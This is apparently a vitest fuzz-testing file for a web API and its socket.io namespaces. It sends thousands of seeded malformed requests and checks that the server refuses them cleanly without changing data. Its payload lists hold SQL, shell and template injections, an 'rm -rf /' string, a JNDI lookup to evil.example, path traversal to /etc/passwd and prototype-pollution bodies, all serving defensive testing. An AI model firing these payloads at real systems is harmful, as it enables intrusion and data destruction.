// Issue 12: 10,000 malformed or hostile requests across every REST route (walked from API_ROUTES, the table
// the OpenAPI document is generated from, so a new route is covered without touching this file) and every
// socket event of /ops and /wall, mostly as admin so they reach validation rather than the guard. No answer
// may be a 5xx, every 4xx carries a `code` and a message naming the problem, the server stays up, and the
// data is unchanged afterwards. Cases come from a seeded generator: a failure prints its seed and case
// number, and HOSTILE_SEED=<seed> HOSTILE_CASE=<n> replays that one case.
import http from 'node:http';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import {
  API_ROUTES,
  type ApiRoute,
  OPS_CLIENT_EVENT_ACCESS,
  OPS_NAMESPACE,
  WALL_CLIENT_EVENT_ACCESS,
  WALL_NAMESPACE,
} from '@wsnoc/shared';
import pg from 'pg';
import { io, type Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import type { RunningServer } from '@/bootstrap.js';
import { ADMIN_PASSWORD, signIn, startTestServer } from './start-test-server.js';

const SEED = Number(process.env.HOSTILE_SEED ?? 20_261_202);
const CASES = Number(process.env.HOSTILE_CASES ?? 10_000);
/** Replays one case alone (with its seed): what a failure message tells you to run. */
const ONLY_CASE = process.env.HOSTILE_CASE === undefined ? undefined : Number(process.env.HOSTILE_CASE);
const CONCURRENCY = 32;
const ANSWER_TIMEOUT_MS = 10_000;

// ---- a seeded generator: each case has its own stream, so one case replays without the others --------

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

class Rng {
  private readonly next: () => number;
  constructor(seed: number, stream: number) {
    this.next = mulberry32((seed ^ Math.imul(stream + 1, 0x9e3779b1)) >>> 0);
  }
  float(): number {
    return this.next();
  }
  int(below: number): number {
    return Math.floor(this.next() * below);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
}

// ---- the hostile material ----------------------------------------------------------------------------

const INJECTIONS = [
  "'; DROP TABLE devices;--",
  "' OR '1'='1",
  "admin'--",
  '1; DELETE FROM audit_log',
  '\nreboot\n',
  '\r\ncommit\r\n',
  '$(reboot)',
  '`reboot`',
  '; commit',
  '| reboot',
  '&& rm -rf /',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%s%s%s%n',
  'set system reboot; commit',
];
const CONTROL = [
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[2J',
  '\r\n',
  '\u007f',
  '\u001b]0;x\u0007',
  '\b\b\b',
  '\u0085',
];
const SURROGATES = ['\ud800', 'a\udc00b', '\udfff\ud800', 'x\ud83d'];
const UNICODE = ['\u202eevil', '\u200b', '\ufeff', 'ﬀ', '😀'.repeat(3), 'İ', '\u0301'.repeat(50)];
const TRAVERSAL = [
  '../../etc/passwd',
  '%2e%2e%2f',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%252e%252e%252f',
  '%00',
  '%ED%A0%80',
  '%C0%AE%C0%AE%2F',
  '%',
  '%zz',
];
const NUMBERS: unknown[] = [
  1e308,
  -1,
  2 ** 53 + 1,
  -0,
  0,
  Number.MAX_VALUE,
  -1e308,
  0.1,
  65_536,
  -2_147_483_649,
];
/** Number words as strings, and literals only raw JSON text can carry. */
const NUMBER_STRINGS = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '0x10',
  '1_000',
  '9'.repeat(400),
  '-0',
  '1e-400',
];
const RAW_NUMBERS = ['1e999', '-1e999', '9'.repeat(400), '1.0e+308', '-0.0'];
const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];

/** Built once each: the cases are many, the long strings few. */
const built = new Map<string, string>();
function once(key: string, build: () => string): string {
  let value = built.get(key);
  if (value === undefined) {
    value = build();
    built.set(key, value);
  }
  return value;
}

function longString(rng: Rng): string {
  const length = rng.pick([300, 4_096, 20_000, 60_000]);
  const unit = rng.pick(['x', 'é', '\'"', 'A1-']);
  return once(`${unit}${length}`, () => unit.repeat(length).slice(0, length));
}

/** One hostile value of any kind, shallow or nested. */
function hostileValue(rng: Rng, depth = 0): unknown {
  switch (rng.int(depth > 1 ? 9 : 12)) {
    case 0:
      return rng.pick(INJECTIONS);
    case 1:
      return rng.pick(CONTROL) + rng.pick(['', 'admin', rng.pick(INJECTIONS)]);
    case 2:
      return rng.pick(SURROGATES);
    case 3:
      return rng.pick(NUMBERS);
    case 4:
      return rng.pick(NUMBER_STRINGS);
    case 5:
      return rng.chance(0.5);
    case 6:
      return rng.pick([null, '', ' ', '\t', 'null', 'undefined', 'true', '[]', '{}']);
    case 7:
      return longString(rng);
    case 8:
      return rng.pick([...UNICODE, ...TRAVERSAL]);
    case 9:
      return Array.from({ length: rng.int(4) }, () => hostileValue(rng, depth + 1));
    case 10:
      return Object.fromEntries(
        Array.from({ length: 1 + rng.int(3) }, () => [
          rng.pick([...PROTO_KEYS, 'role', 'admin', 'id', '$where']),
          hostileValue(rng, depth + 1),
        ]),
      );
    default:
      return rng.chance(0.5) ? { role: 'admin', isAdmin: true } : [[[[]]]];
  }
}

/** JSON text whose objects carry own `__proto__` / `constructor` keys (JSON.stringify cannot write them). */
function protoJson(rng: Rng, fields: string[]): string {
  const parts = [
    `"__proto__":{"role":"admin","isAdmin":true,"polluted":${JSON.stringify(rng.pick(INJECTIONS))}}`,
    `"constructor":{"prototype":{"polluted":true}}`,
    ...fields.slice(0, 3).map((f) => `${JSON.stringify(f)}:${JSON.stringify(hostileValue(rng))}`),
  ];
  return `{${parts.filter(() => rng.chance(0.8)).join(',') || parts[0]}}`;
}

const BAD_JSON = [
  '{',
  '}',
  '{"a":}',
  "{'a':1}",
  '[1,2',
  'undefined',
  'NaN',
  '{"a":1}}',
  '{"a":1,}',
  '{"a":"\\ud800',
  '{"a":"\\x00"}',
  '{"a":"\\u00"}',
  '\u0000',
  '{"a":1}\u0000',
  ']',
  '{"__proto__":',
  '/* comment */ {}',
  '{"a":01}',
  '{"a":.5}',
  '\ufeff{}',
  'true false',
];

function badJson(rng: Rng): string | Buffer {
  switch (rng.int(5)) {
    case 0:
      return rng.pick(BAD_JSON);
    case 1:
      // Not UTF-8 at all.
      return Buffer.from([
        0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0x22, 0x7d,
      ]);
    case 2:
      // Nesting far deeper than any body.
      return '['.repeat(10_000 + rng.int(30_000)) + ']'.repeat(rng.chance(0.5) ? 10 : 0);
    case 3:
      return `{"a":${rng.pick(RAW_NUMBERS)}`;
    default:
      return rng.pick(['"just a string"', '42', 'true', 'null', '[]', '[{}]', '""']);
  }
}

function oversized(rng: Rng, fields: string[]): string {
  const size = rng.pick([110_000, 110_000, 300_000, 300_000, 1_200_000]);
  const field = fields[0] ?? 'name';
  return once(`oversized ${field} ${size}`, () => JSON.stringify({ [field]: 'x'.repeat(size) }));
}

/** CSV bodies for the import, each refused whole: hostile or unknown columns, broken quoting. */
function hostileCsv(rng: Rng): string {
  const header = 'name,role,host,port,username,password';
  const row = 'evil-1,cpe,127.9.9.1,23,admin,pw';
  switch (rng.int(8)) {
    case 0:
      return `${header},${rng.pick(['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'])}\n${row},x\n`;
    case 1:
      return `${header},${rng.pick(["'; DROP TABLE devices;--", '$(reboot)', 'role\u0000', 'x'.repeat(5000)])}\n${row},y\n`;
    case 2:
      return `${header}\n"evil-2,cpe,127.9.9.2,23,admin,"pw\n`;
    case 3:
      return `"${'x'.repeat(1_000 + rng.int(50_000))}\n`;
    case 4:
      return `name,role\n${row}\n`;
    case 5:
      return `${header},${header}\n${row},${row}\n`;
    case 6:
      return `\u0000${header}\n${row}\n`;
    default:
      return `${rng.pick(INJECTIONS)},${rng.pick(CONTROL)}\n${row}\n`;
  }
}

// ---- cases -----------------------------------------------------------------------------------------

interface HttpCase {
  kind: 'http';
  n: number;
  route: ApiRoute;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  as: 'admin' | 'anonymous' | 'forged';
  what: string;
}

interface SocketCase {
  kind: 'ops' | 'wall';
  n: number;
  what: string;
  /** A fresh handshake with these, instead of an event on an open socket. */
  handshake?: { auth?: unknown; cookie?: string; query?: Record<string, string> };
  event?: { name: string; args: unknown[] } | { raw: string };
}

type Case = HttpCase | SocketCase;

interface Ids {
  device: string;
  user: string;
  display: string;
}

function shapeKeys(schema: z.ZodType | undefined): string[] {
  const found = schema as unknown as {
    shape?: Record<string, unknown>;
    def?: { in?: { shape?: Record<string, unknown> }; innerType?: { shape?: Record<string, unknown> } };
  };
  const shape = found?.shape ?? found?.def?.in?.shape ?? found?.def?.innerType?.shape;
  return shape ? Object.keys(shape) : [];
}

const UUID_SHAPED = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** A hostile value for a `:param`, as it goes into the path (already encoded, or raw on purpose). */
function hostileParam(rng: Rng, route: ApiRoute, param: string, ids: Ids): { text: string; valid: boolean } {
  const real =
    param === 'userId' ? ids.user : param === 'id' ? rng.pick([ids.device, ids.display]) : ids.device;
  // A real id only where the body or query is what is hostile: a real radio behind any other route would
  // be asked to answer (and this test has no radios; their 503 is the radio's outage, not bad input).
  const realAllowed = route.body !== undefined || (route.method === 'GET' && route.query !== undefined);
  switch (rng.int(7)) {
    case 0:
    case 1:
      return { text: rng.pick(TRAVERSAL), valid: false };
    case 2:
      return { text: encodeURIComponent(rng.pick(INJECTIONS)), valid: false };
    case 3:
      return { text: encodeURIComponent(String(rng.pick([...NUMBERS, ...NUMBER_STRINGS]))), valid: false };
    case 4:
      return { text: rng.pick(['__proto__', 'constructor', 'prototype', 'null', 'undefined']), valid: false };
    case 5:
      return {
        text: rng.pick([
          'x'.repeat(4_000),
          `${real}%00`,
          `${real}.json`,
          `${real.toUpperCase()}'--`,
          encodeURIComponent(rng.pick(SURROGATES).replace(/[\ud800-\udfff]/g, '')) + '%ED%B0%80',
          '%20',
        ]),
        valid: false,
      };
    default:
      // Well-formed: a real id or one that names nothing, so the body's validation is reached.
      return {
        text: realAllowed && rng.chance(0.5) ? real : '00000000-0000-4000-8000-00000000dead',
        valid: true,
      };
  }
}

function hostileQuery(rng: Rng, route: ApiRoute): string {
  const keys = [...shapeKeys(route.query), ...PROTO_KEYS, 'limit', 'format', 'q'];
  const pairs: string[] = [];
  for (let i = 0, count = 1 + rng.int(4); i < count; i++) {
    const key = rng.pick(keys);
    const value = hostileValue(rng);
    const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? 'undefined');
    const encoded = (s: string) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, '\ufffd'));
    pairs.push(
      rng.pick([
        `${encoded(key)}=${encoded(text.slice(0, 3_000))}`,
        `${encoded(key)}[]=${encoded(text.slice(0, 100))}&${encoded(key)}[]=2`,
        `${encoded(key)}[__proto__][polluted]=1`,
        `${encoded(key)}=${rng.pick(['%00', '%ED%A0%80', '%', '%zz', '1&1'])}`,
      ]),
    );
  }
  return pairs.join('&');
}

/**
 * Whether the edge refuses a body before any route sees it: too large, not sent as JSON, or not a JSON
 * object or array once read as UTF-8 (as the server reads it). Conservative: when unsure, it is not.
 */
function refusedAtEdge(headers: Record<string, string>, body: string | Buffer | undefined): boolean {
  if (body === undefined || body.length === 0) {
    return false;
  }
  if (Buffer.byteLength(body) > 100 * 1024) {
    return true;
  }
  const type = headers['content-type'];
  if (type === undefined || !/^application\/json($|;)/.test(type)) {
    return type === undefined || !type.includes('json');
  }
  if (type !== 'application/json') {
    return false; // a charset the reader may or may not take: assume it reads it
  }
  try {
    const parsed = readJson(body);
    return typeof parsed !== 'object' || parsed === null;
  } catch {
    return true;
  }
}

/** Whether a call could pass every check of the route, and so might change something. */
function couldPass(
  route: ApiRoute,
  headers: Record<string, string>,
  body: string | Buffer | undefined,
): boolean {
  if (refusedAtEdge(headers, body)) {
    return false;
  }
  if (route.path === '/devices/import') {
    return false; // its cases are CSV refused whole (asserted: a 2xx fails the test, and so does a change)
  }
  if (!route.body) {
    return true; // the body is not what the route reads: it would act on the path alone
  }
  let parsed: unknown;
  try {
    parsed = readJson(body ?? '');
  } catch {
    return false;
  }
  return route.body.safeParse(parsed).success;
}

/** The body as the server's JSON reader sees it: UTF-8, a leading byte-order mark skipped. */
function readJson(body: string | Buffer): unknown {
  const text = typeof body === 'string' ? body : body.toString('utf8');
  return JSON.parse(text.startsWith('\uFEFF') ? text.slice(1) : text);
}

const WRONG_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=koi8-r',
  'application/json, text/plain',
  'application/javascript',
  'text/csv',
  'image/png',
  '',
];

function httpCase(n: number, rng: Rng, ids: Ids, origin: string): HttpCase {
  const route = rng.pick(API_ROUTES);
  const fields = [...shapeKeys(route.body), 'name', 'role', 'password'];
  const headers: Record<string, string> = {};
  const who = rng.float();
  const as: HttpCase['as'] = who < 0.08 ? 'anonymous' : who < 0.1 ? 'forged' : 'admin';
  const whats: string[] = [];
  if (rng.chance(0.2)) {
    headers.origin = rng.chance(0.9) ? origin : rng.pick(['http://evil.example', 'null', 'file://']);
  }
  let validParams = true;
  const path = route.path.replace(/:(\w+)/g, (_m, param: string) => {
    const { text, valid } = hostileParam(rng, route, param, ids);
    validParams &&= valid;
    return text;
  });
  const query = route.query || rng.chance(0.1) ? hostileQuery(rng, route) : '';
  const changesState = route.method !== 'GET';
  let body: string | Buffer | undefined;
  let kind: string;

  if (route.path === '/devices/import' && rng.chance(0.8)) {
    kind = 'csv';
    body = hostileCsv(rng);
    headers['content-type'] = rng.pick(['text/csv', 'text/csv; charset=utf-8', 'text/plain']);
  } else {
    const k = rng.int(changesState ? 10 : 4);
    kind = [
      'bad-json',
      'wrong-type',
      'oversized',
      'proto',
      'fields',
      'fields',
      'fields',
      'top-level',
      'fields',
      'numbers',
    ][k]!;
    headers['content-type'] = 'application/json';
    switch (kind) {
      case 'bad-json':
        body = badJson(rng);
        break;
      case 'wrong-type':
        headers['content-type'] = rng.pick(WRONG_TYPES);
        body = rng.chance(0.5) ? JSON.stringify({ name: rng.pick(INJECTIONS) }) : 'username=admin&password=x';
        if (headers['content-type'] === '') {
          delete headers['content-type'];
        }
        break;
      case 'oversized':
        body = oversized(rng, fields);
        break;
      case 'proto':
        body = protoJson(rng, fields);
        break;
      case 'top-level':
        body = JSON.stringify(rng.pick([[hostileValue(rng)], hostileValue(rng), [{ name: 'x' }]]));
        break;
      case 'numbers':
        body = `{${fields
          .slice(0, 4)
          .map(
            (f) => `${JSON.stringify(f)}:${rng.pick([...RAW_NUMBERS, '1e308', '-1', String(2 ** 53 + 1)])}`,
          )
          .join(',')}}`;
        break;
      default: {
        const object: Record<string, unknown> = {};
        for (const field of fields) {
          if (rng.chance(0.7)) {
            object[field] = hostileValue(rng);
          }
        }
        body = JSON.stringify(object);
      }
    }
  }
  if (!changesState && rng.chance(0.6)) {
    body = undefined; // most GETs carry no body; the rest carry one they must not choke on
    delete headers['content-type'];
  }
  whats.push(kind);

  // A state-changing call that could pass every check would change the data: it goes anonymous instead.
  let principal = as;
  if (
    changesState &&
    validParams &&
    principal === 'admin' &&
    route.access !== 'public' &&
    couldPass(route, headers, body)
  ) {
    principal = 'anonymous';
    whats.push('(sent anonymously: it could pass validation)');
  }
  if (principal === 'forged') {
    headers.cookie = rng.pick([
      "wsnoc_session=' OR 1=1--",
      `wsnoc_session=${'a'.repeat(4_000)}`,
      'wsnoc_session=%ED%A0%80',
      'wsnoc_session=../../etc/passwd',
      'wsnoc_session=; wsnoc_session=x',
      'wsnoc_session="unterminated',
      '__proto__=x; constructor=y',
    ]);
  }
  return {
    kind: 'http',
    n,
    route,
    method: route.method,
    path: `/api${path}${query ? `?${query}` : ''}`,
    headers,
    body,
    as: principal,
    what: whats.join(' '),
  };
}

const OPS_EVENTS = Object.keys(OPS_CLIENT_EVENT_ACCESS);
/** Names socket.io-client will not emit itself. */
const RESERVED = new Set([
  'connect',
  'connect_error',
  'disconnect',
  'disconnecting',
  'newListener',
  'removeListener',
]);
const WALL_EVENTS = Object.keys(WALL_CLIENT_EVENT_ACCESS);

function socketCase(n: number, rng: Rng): SocketCase {
  const kind = rng.chance(0.7) ? 'ops' : 'wall';
  const events = kind === 'ops' ? OPS_EVENTS : WALL_EVENTS;
  if (rng.chance(0.06)) {
    const hostile = hostileValue(rng);
    return {
      kind,
      n,
      what: 'handshake',
      handshake: {
        auth: rng.pick([
          { token: hostile },
          hostile,
          { token: rng.pick(INJECTIONS) },
          { token: 'x'.repeat(10_000) },
        ]),
        cookie: rng.chance(0.5)
          ? `wsnoc_session=${encodeURIComponent(String(rng.pick(INJECTIONS)))}`
          : undefined,
        // (not `hasOwnProperty`: the client itself calls it on the query)
        query: rng.chance(0.3)
          ? {
              [rng.pick(['__proto__', 'constructor', 'EIO', 'sid', 'transport', 'token'])]:
                rng.pick(INJECTIONS),
            }
          : undefined,
      },
    };
  }
  if (rng.chance(0.05)) {
    const ns = kind === 'ops' ? OPS_NAMESPACE : WALL_NAMESPACE;
    return {
      kind,
      n,
      what: 'raw packet',
      event: {
        raw: rng.pick([
          `2${ns},["ping"`,
          `2${ns},{"a":1}`,
          `2${ns},["disconnect"]`,
          `2${ns},[{"__proto__":1}]`,
          `2${ns},123["ping"]`,
          `9${ns},[]`,
          `1${ns},`,
          `0${ns},{"token":"${'x'.repeat(100)}"}`,
          `2${ns},["devices:resync",${'['.repeat(2000)}`,
          '2/nope,["ping"]',
        ]),
      },
    };
  }
  const known = rng.chance(0.6);
  const name = known
    ? rng.pick(events)
    : rng.pick([
        ...PROTO_KEYS,
        'devices:delete',
        'users:create',
        'wall:update',
        rng.pick(INJECTIONS),
        'x'.repeat(2_000),
        'newListener',
        'disconnect',
        'connect',
        'error',
      ]);
  const args = Array.from({ length: rng.int(4) }, () => hostileValue(rng));
  if (RESERVED.has(name)) {
    // The client refuses to emit these names; the server must not trip over them arriving anyway.
    const ns = kind === 'ops' ? OPS_NAMESPACE : WALL_NAMESPACE;
    return {
      kind,
      n,
      what: `raw event ${name}`,
      event: { raw: `2${ns},${JSON.stringify([name, ...args])}` },
    };
  }
  return { kind, n, what: `event ${name.slice(0, 40)}`, event: { name, args } };
}

function caseFor(n: number, ids: Ids, origin: string): Case {
  const rng = new Rng(SEED, n);
  return rng.chance(0.15) ? socketCase(n, rng) : httpCase(n, rng, ids, origin);
}

function describeCase(c: Case): string {
  const replay = `HOSTILE_SEED=${SEED} HOSTILE_CASE=${c.n}`;
  if (c.kind === 'http') {
    const body =
      c.body === undefined
        ? ''
        : ` body=${JSON.stringify((typeof c.body === 'string' ? c.body : c.body.toString('latin1')).slice(0, 160))}${c.body.length > 160 ? `… (${c.body.length} bytes)` : ''}`;
    return `case ${c.n} [${replay}] ${c.method} ${c.path.slice(0, 200)} as ${c.as} (${c.what}) headers=${JSON.stringify(c.headers).slice(0, 200)}${body}`;
  }
  return `case ${c.n} [${replay}] /${c.kind} ${c.what} ${JSON.stringify(c.handshake ?? c.event)?.slice(0, 200)}`;
}

// ---- sending -----------------------------------------------------------------------------------------

interface Answer {
  status: number;
  type: string;
  text: string;
}

const agent = new http.Agent({ keepAlive: true, maxSockets: CONCURRENCY });

function send(base: URL, c: HttpCase, cookie: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { ...c.headers };
    if (c.as === 'admin') {
      headers.cookie = cookie;
    }
    if (c.body !== undefined) {
      headers['content-length'] = String(Buffer.byteLength(c.body));
    }
    const request = http.request(
      { host: base.hostname, port: base.port, method: c.method, path: c.path, headers, agent },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            type: String(response.headers['content-type'] ?? ''),
            text: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        response.on('error', reject);
      },
    );
    request.setTimeout(ANSWER_TIMEOUT_MS, () => request.destroy(new Error('no answer within 10 s')));
    request.on('error', reject);
    request.end(c.body);
  });
}

/** What is wrong with an answer, or null. */
function judge(c: HttpCase, answer: Answer): string | null {
  if (answer.status >= 500) {
    return `answered ${answer.status}: ${answer.text.slice(0, 300)}`;
  }
  if (answer.status < 400) {
    if (c.method !== 'GET' && c.route.path !== '/auth/login') {
      return `a hostile call to a state-changing route succeeded with ${answer.status}: ${answer.text.slice(0, 200)}`;
    }
    return null;
  }
  if (!answer.type.includes('application/json')) {
    return `answered ${answer.status} as ${answer.type || 'no type'}, not JSON: ${answer.text.slice(0, 200)}`;
  }
  let body: { code?: unknown; message?: unknown };
  try {
    body = JSON.parse(answer.text) as typeof body;
  } catch {
    return `answered ${answer.status} with a body that is not JSON: ${answer.text.slice(0, 200)}`;
  }
  if (typeof body.code !== 'string' || !/^[a-z][a-z0-9-]*(\.[a-z0-9-]+)+$/.test(body.code)) {
    return `answered ${answer.status} without a code: ${answer.text.slice(0, 300)}`;
  }
  if (
    typeof body.message !== 'string' ||
    body.message.length < 8 ||
    /^(bad request|not found|internal server error|error|forbidden|unauthorized)$/i.test(body.message)
  ) {
    return `answered ${answer.status} with a message that names no problem: ${answer.text.slice(0, 300)}`;
  }
  return null;
}

// ---- the data that must not change ------------------------------------------------------------------

const COMPARED_TABLES = [
  'devices',
  'sites',
  'users',
  'wall_displays',
  'config_changes',
  'config_versions',
  'desired_configs',
  'bulk_runs',
  'bulk_run_items',
  'spectrum_stations',
];

interface Dump {
  tables: Record<string, string>;
  auditCount: number;
  auditLastId: string;
}

async function dump(db: pg.Client): Promise<Dump> {
  const tables: Record<string, string> = {};
  for (const table of COMPARED_TABLES) {
    const rows = await db.query(`SELECT to_jsonb(t) AS row FROM ${table} t ORDER BY 1::text`);
    tables[table] = JSON.stringify(
      rows.rows
        .map((r: { row: unknown }) => r.row)
        .sort((a, b) => (JSON.stringify(a) < JSON.stringify(b) ? -1 : 1)),
    );
  }
  const audit = await db.query<{ count: string; last: string | null }>(
    'SELECT count(*)::text AS count, max(id)::text AS last FROM audit_log',
  );
  return { tables, auditCount: Number(audit.rows[0]!.count), auditLastId: audit.rows[0]!.last ?? '0' };
}

// ---- the test ----------------------------------------------------------------------------------------

let server: RunningServer;
let cookie: string;
let ids: Ids;
let token: string;
let db: pg.Client;

beforeAll(async () => {
  server = await startTestServer({
    POLLING_ENABLED: 'false',
    // Room for the refused sign-ins this test makes, before the address is throttled (429, also checked).
    LOGIN_MAX_FAILURES_PER_ADDRESS: '40',
  });
  cookie = await signIn(server.url);
  const api = async (path: string, body: unknown) => {
    const response = await fetch(`${server.url}/api${path}`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    expect(response.status, await response.clone().text()).toBeLessThan(300);
    return (await response.json()) as Record<string, unknown>;
  };
  const station = await api('/devices', {
    name: 'hostile-bs',
    role: 'base-station',
    host: '127.88.0.1',
    username: 'admin',
    password: 'secret',
    site: 'north',
  });
  await api('/devices', {
    name: 'hostile-cpe',
    role: 'cpe',
    host: '127.88.0.2',
    username: 'admin',
    password: 'secret',
    site: 'north',
    parent: 'hostile-bs',
  });
  const user = await api('/users', {
    username: 'hostile-viewer',
    role: 'viewer',
    password: 'glass-window-seven',
  });
  const display = await api('/wall/displays', { name: 'hostile wall' });
  ids = {
    device: String(station.id),
    user: String(user.id),
    display: String((display.display as { id?: string })?.id ?? display.id),
  };
  token = String(display.token);
  expect(ids.display).toMatch(UUID_SHAPED);
  db = new pg.Client({ connectionString: server.config.env.DATABASE_URL });
  await db.connect();
}, 60_000);

afterAll(async () => {
  agent.destroy();
  await db?.end();
  await server?.close();
});

type AnySocket = Socket & { io: { engine: { write(data: string): void } } };

/** A pool of open sockets per namespace, replaced when the server closes one (a flood, a bad packet). */
class SocketPool {
  private readonly slots: ({ socket: AnySocket; ready: Promise<string> } | undefined)[] = [];
  constructor(
    private readonly open: () => AnySocket,
    private readonly size: number,
  ) {}
  /** A connected socket of the pool, or why none could be had. */
  async get(i: number): Promise<AnySocket | string> {
    const slot = i % this.size;
    let entry = this.slots[slot];
    if (entry && (await entry.ready) === 'connected' && !entry.socket.connected) {
      entry.socket.close(); // the server closed it: open another
      entry = undefined;
    }
    if (!entry) {
      const socket = this.open();
      entry = { socket, ready: whenConnected(socket) };
      this.slots[slot] = entry;
    }
    const ready = await entry.ready;
    return ready === 'connected' && entry.socket.connected ? entry.socket : ready;
  }
  close(): void {
    for (const entry of this.slots) {
      entry?.socket.close();
    }
  }
}

/** 'connected', or how the handshake ended: refused (connect_error), or dropped by the server. */
function whenConnected(socket: AnySocket): Promise<string> {
  return new Promise((resolve) => {
    if (socket.connected) {
      resolve('connected');
      return;
    }
    const timer = setTimeout(() => resolve('no answer to the handshake within 5 s'), 5_000);
    const done = (result: string) => {
      clearTimeout(timer);
      resolve(result);
    };
    socket.once('connect', () => done('connected'));
    socket.once('connect_error', (err) => done(`refused: ${err.message}`));
    // A handshake packet the server cannot decode: it closes the connection, which is an answer too.
    (socket.io as unknown as { once(event: 'close', listener: (reason: string) => void): void }).once(
      'close',
      (reason) => done(`closed by the server: ${reason}`),
    );
  });
}

/** After a hostile event: the socket still answers a ping, or the server closed it; anything else fails. */
function stillServes(socket: Socket): Promise<string | null> {
  return new Promise((resolve) => {
    if (!socket.connected) {
      resolve(null);
      return;
    }
    const timer = setTimeout(
      () => resolve('the socket neither answered a ping nor was closed within 5 s'),
      5_000,
    );
    socket.once('disconnect', () => {
      clearTimeout(timer);
      resolve(null);
    });
    socket.emit('ping', () => {
      clearTimeout(timer);
      resolve(null);
    });
  });
}

describe('hostile input', () => {
  it(`answers ${CASES} hostile requests and socket events with no 5xx, a code on every 4xx, and changes nothing`, async () => {
    const before = await dump(db);
    const base = new URL(server.url);
    const origin = server.url;
    const openOps = () =>
      io(`${server.url}${OPS_NAMESPACE}`, {
        transports: ['websocket'],
        reconnection: false,
        forceNew: true,
        extraHeaders: { cookie },
      }) as AnySocket;
    const openWall = () =>
      io(`${server.url}${WALL_NAMESPACE}`, {
        transports: ['websocket'],
        reconnection: false,
        forceNew: true,
        auth: { token },
      }) as AnySocket;
    const pools = { ops: new SocketPool(openOps, 4), wall: new SocketPool(openWall, 3) };

    const failures: string[] = [];
    const statuses = new Map<number, number>();
    let refusedSignIns = 0;

    /** Routes that were answered and socket events that were sent, to show nothing was left out. */
    const covered = new Set<string>();

    const runSocket = async (c: SocketCase) => {
      if (c.handshake) {
        const socket = io(`${server.url}${c.kind === 'ops' ? OPS_NAMESPACE : WALL_NAMESPACE}`, {
          transports: ['websocket'],
          reconnection: false,
          forceNew: true,
          auth: c.handshake.auth as Record<string, unknown>,
          query: c.handshake.query,
          extraHeaders: c.handshake.cookie ? { cookie: c.handshake.cookie } : {},
        }) as AnySocket;
        const result = await whenConnected(socket);
        socket.close();
        if (result.startsWith('no answer')) {
          failures.push(`${describeCase(c)}: ${result}`);
        } else if (result === 'connected' && c.kind === 'wall') {
          failures.push(`${describeCase(c)}: a hostile wall handshake was let in`);
        }
        return;
      }
      const socket = await pools[c.kind].get(c.n);
      if (typeof socket === 'string') {
        failures.push(`${describeCase(c)}: the pool's own socket could not connect: ${socket}`);
        return;
      }
      const event = c.event!;
      if ('name' in event) {
        covered.add(`${c.kind} ${event.name}`);
      }
      if ('raw' in event) {
        socket.io.engine.write(event.raw);
      } else {
        (socket as unknown as { emit(name: string, ...args: unknown[]): void }).emit(
          event.name,
          ...event.args,
        );
      }
      const problem = await stillServes(socket);
      if (problem) {
        failures.push(`${describeCase(c)}: ${problem}`);
      }
    };

    const runHttp = async (c: HttpCase) => {
      let answer: Answer;
      try {
        answer = await send(base, c, cookie);
      } catch (err) {
        failures.push(`${describeCase(c)}: ${(err as Error).message}`);
        return;
      }
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      covered.add(`${c.route.method} ${c.route.path}`);
      if (c.route.path === '/auth/login' && (answer.status === 401 || answer.status === 429)) {
        refusedSignIns++;
      }
      const problem = judge(c, answer);
      if (problem) {
        failures.push(`${describeCase(c)}: ${problem}`);
      }
    };

    const numbers = ONLY_CASE === undefined ? Array.from({ length: CASES }, (_, i) => i) : [ONLY_CASE];
    const started = Date.now();
    let next = 0;
    const worker = async () => {
      while (next < numbers.length) {
        const c = caseFor(numbers[next++]!, ids, origin);
        await (c.kind === 'http' ? runHttp(c) : runSocket(c));
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, worker));
    pools.ops.close();
    pools.wall.close();
    const seconds = (Date.now() - started) / 1000;
    console.log(
      `hostile input: ${numbers.length} cases in ${seconds.toFixed(1)} s (seed ${SEED}); statuses ${JSON.stringify(Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])))}`,
    );

    expect(
      failures.slice(0, 40),
      `${failures.length} of ${numbers.length} cases failed (seed ${SEED})`,
    ).toEqual([]);
    if (ONLY_CASE === undefined && CASES >= 5_000) {
      const everything = [
        ...API_ROUTES.map((r) => `${r.method} ${r.path}`),
        ...OPS_EVENTS.map((e) => `ops ${e}`),
        ...WALL_EVENTS.map((e) => `wall ${e}`),
      ];
      expect(
